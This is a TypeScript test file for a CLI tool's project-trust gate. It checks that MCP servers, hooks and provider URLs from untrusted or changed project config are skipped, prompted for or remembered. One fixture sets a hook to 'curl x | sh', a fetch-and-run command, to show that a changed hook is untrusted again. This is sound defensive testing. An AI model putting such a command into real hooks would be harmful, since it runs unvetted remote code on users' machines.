import { describe, expect, test } from "bun:test";
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { loadConfig } from "../../src/config/load.ts";
import { decideTrust, type TrustOptions } from "../../src/config/trust.ts";
import { readTrusted, trustFile } from "../../src/config/trust-store.ts";
import { TempProject } from "./trust-temp-project.ts";

const SERVERS = { mcpServers: { files: { command: "npx", args: ["-y", "server-files", "."] } } };

/** A question that records what it was shown and answers from a list. */
function answering(...answers: string[]) {
  const asked: Array<{ listing: string; question: string }> = [];
  const ask: NonNullable<TrustOptions["ask"]> = async (listing, question) => {
    asked.push({ listing, question });
    return answers.shift() ?? "";
  };
  return { ask, asked };
}

function options(p: TempProject, extra: Partial<TrustOptions> = {}): TrustOptions {
  return { cwd: p.root, env: p.env, flag: false, interactive: false, ...extra };
}

describe("decideTrust", () => {
  test("nothing to run: untrusted, nothing said, nothing asked", async () => {
    using p = new TempProject();
    p.write(".ion/config.json", { model: "openai/gpt-4o" });
    const { ask, asked } = answering("y");
    const decision = await decideTrust(options(p, { interactive: true, ask }));
    expect(decision.trusted).toBe(false);
    expect(decision.skippedLine).toBeUndefined();
    expect(decision.warnings).toEqual([]);
    expect(asked).toEqual([]);
    expect(existsSync(trustFile(p.env))).toBe(false);
  });

  test("untrusted without a terminal: one line naming what was skipped and how to trust", async () => {
    using p = new TempProject();
    const mcp = p.write(".mcp.json", SERVERS);
    const config = p.write(".ion/config.json", {
      providers: { openai: { api_base: "http://127.0.0.1:9/v1" } },
      hooks: { Stop: [{ hooks: [{ type: "command", command: "say done" }] }] },
    });
    const decision = await decideTrust(options(p));
    expect(decision).toMatchObject({ trusted: false, by: "untrusted" });
    expect(decision.skippedLine).toBe(
      `untrusted project ${p.root}: ignored MCP server "files" in ${mcp} and "providers.openai.api_base", "hooks" in ${config}; ` +
        "to trust it: `ion config trust`, or --trust-project or ION_TRUST_PROJECT=1 for one run",
    );
    expect(existsSync(trustFile(p.env))).toBe(false);
  });

  test("from a subdirectory the line names the project to trust", async () => {
    using p = new TempProject();
    p.write(".mcp.json", SERVERS);
    const sub = join(p.root, "src");
    p.write("src/index.ts", "");
    const decision = await decideTrust(options(p, { cwd: sub }));
    expect(decision.skippedLine).toContain(`\`ion config trust ${p.root}\``);
  });

  test("--trust-project and ION_TRUST_PROJECT=1 trust for this run only: nothing is remembered", async () => {
    using p = new TempProject();
    p.write(".mcp.json", SERVERS);
    const byFlag = await decideTrust(options(p, { flag: true }));
    expect(byFlag).toMatchObject({ trusted: true, by: "flag" });
    expect(byFlag.skippedLine).toBeUndefined();
    expect(byFlag.project.mcpServers).toEqual(SERVERS.mcpServers);
    const byEnv = await decideTrust(options(p, { env: { ...p.env, ION_TRUST_PROJECT: "1" } }));
    expect(byEnv).toMatchObject({ trusted: true, by: "env" });
    expect(existsSync(trustFile(p.env))).toBe(false);
    for (const value of ["0", "", "no"]) {
      const off = await decideTrust(options(p, { env: { ...p.env, ION_TRUST_PROJECT: value } }));
      expect(off.trusted).toBe(false);
      expect(off.warnings).toEqual([]);
    }
    // A value that is neither on nor off trusts nothing, and is said.
    const odd = await decideTrust(options(p, { env: { ...p.env, ION_TRUST_PROJECT: "2" } }));
    expect(odd.trusted).toBe(false);
    expect(odd.warnings).toEqual([
      'ION_TRUST_PROJECT="2" is not 1, true or yes: the project is not trusted by it',
    ]);
  });

  test("on a terminal: asks once showing exactly what would run; yes is remembered", async () => {
    using p = new TempProject();
    p.write(".mcp.json", SERVERS);
    const { ask, asked } = answering("y");
    const first = await decideTrust(options(p, { interactive: true, ask }));
    expect(first).toMatchObject({ trusted: true, by: "answer" });
    expect(asked).toHaveLength(1);
    expect(asked[0]!.question).toBe("Trust this project? [y/N] ");
    expect(asked[0]!.listing).toBe(
      [
        `${p.root} is a project you have not trusted. Trusted, it would:`,
        '  MCP server "files" (.mcp.json): npx -y server-files .',
        "Untrusted, ion skips all of this and goes on.",
      ].join("\n"),
    );
    expect((await readTrusted(trustFile(p.env)))[p.root]?.hash).toBe(first.project.hash);

    const again = answering("n");
    const second = await decideTrust(options(p, { interactive: true, ask: again.ask }));
    expect(second).toMatchObject({ trusted: true, by: "stored" });
    expect(again.asked).toEqual([]);
    // Remembered: a run without a terminal is trusted too.
    expect((await decideTrust(options(p))).trusted).toBe(true);
  });

  test("no holds for this run only; an answer it does not know asks again", async () => {
    using p = new TempProject();
    p.write(".mcp.json", SERVERS);
    const { ask, asked } = answering("maybe", "no");
    const decision = await decideTrust(options(p, { interactive: true, ask }));
    expect(decision.trusted).toBe(false);
    expect(asked).toHaveLength(2);
    // The second time only one line says what to answer: the list is not shown again.
    expect(asked[1]).toEqual({
      listing: "answer y or n (Enter is no)",
      question: "Trust this project? [y/N] ",
    });
    expect(decision.skippedLine).toBe(
      "not trusted: all of the above is skipped for this run, and ion asks again next time (`ion config trust` trusts it for good)",
    );
    expect(existsSync(trustFile(p.env))).toBe(false);
    // Ctrl+D (no answer) is no as well, and the next run asks again.
    const next = answering();
    expect((await decideTrust(options(p, { interactive: true, ask: next.ask }))).trusted).toBe(false);
    expect(next.asked).toHaveLength(1);
  });

  test("a changed .mcp.json is untrusted again, and says so; on a terminal it asks again", async () => {
    using p = new TempProject();
    p.write(".mcp.json", SERVERS);
    await decideTrust(options(p, { interactive: true, ask: answering("yes").ask }));
    p.write(".mcp.json", { mcpServers: { files: { command: "npx", args: ["-y", "server-files", "/"] } } });

    const headless = await decideTrust(options(p));
    expect(headless.trusted).toBe(false);
    expect(headless.skippedLine).toStartWith(
      `project ${p.root} changed since you trusted it: ignored MCP server "files"`,
    );
    const { ask, asked } = answering("y");
    expect((await decideTrust(options(p, { interactive: true, ask }))).trusted).toBe(true);
    expect(asked[0]!.listing).toStartWith(`${p.root} changed since you trusted it. Trusted, it would now:\n`);
    expect(asked[0]!.listing).toContain("npx -y server-files /");
    expect((await decideTrust(options(p))).by).toBe("stored");
  });

  test("a changed hook asks again too", async () => {
    using p = new TempProject();
    p.write(".ion/config.json", { hooks: { Stop: [{ hooks: [{ type: "command", command: "true" }] }] } });
    expect((await decideTrust(options(p, { interactive: true, ask: answering("y").ask }))).trusted).toBe(
      true,
    );
    p.write(".ion/config.json", {
      hooks: { Stop: [{ hooks: [{ type: "command", command: "curl x | sh" }] }] },
    });
    const decision = await decideTrust(options(p));
    expect(decision.trusted).toBe(false);
    expect(decision.skippedLine).toContain("changed since you trusted it");
  });

  test("an unreadable store trusts nothing: one warning with the repair, and the run goes on", async () => {
    using p = new TempProject();
    p.write(".mcp.json", SERVERS);
    const file = trustFile(p.env);
    p.write("../data/trusted-projects.json", "");
    writeFileSync(file, "[1, 2]");
    const decision = await decideTrust(options(p));
    expect(decision.trusted).toBe(false);
    expect(decision.warnings).toEqual([
      `${file}: not a list of trusted projects; no project is trusted until it is repaired; remove it to start again (every project is then untrusted): rm ${file}`,
    ]);
    expect(decision.skippedLine).toStartWith("untrusted project");
  });
});

describe("loadConfig with the gate's decision", () => {
  const project = {
    model: "openai/gpt-4o",
    providers: { openai: { api_base: "http://127.0.0.1:9/v1" } },
    workspace: { allow: ["/"] },
  };

  test("trusted: the project's base URL is kept; only what the user alone may set is ignored", async () => {
    using p = new TempProject();
    p.write(".ion/config.json", project);
    const loaded = await loadConfig({ cwd: p.root, env: p.env, trustedProject: true });
    expect(loaded.config.providers?.openai?.api_base).toBe("http://127.0.0.1:9/v1");
    expect(loaded.warnings).toHaveLength(1);
    expect(loaded.warnings[0]).toStartWith('ignored "workspace"');
  });

  test("untrusted by the gate: no second line about what needs trust (the gate's line said it)", async () => {
    using p = new TempProject();
    p.write(".ion/config.json", project);
    const loaded = await loadConfig({ cwd: p.root, env: p.env, trustedProject: false });
    expect(loaded.config.providers?.openai?.api_base).toBeUndefined();
    expect(loaded.warnings).toHaveLength(1);
    expect(loaded.warnings[0]).toStartWith('ignored "workspace"');
    // Without the gate (other commands), the warning about trust is still given.
    const plain = await loadConfig({ cwd: p.root, env: p.env });
    expect(plain.warnings.some((line) => line.includes('"providers.openai.api_base"'))).toBe(true);
  });
});
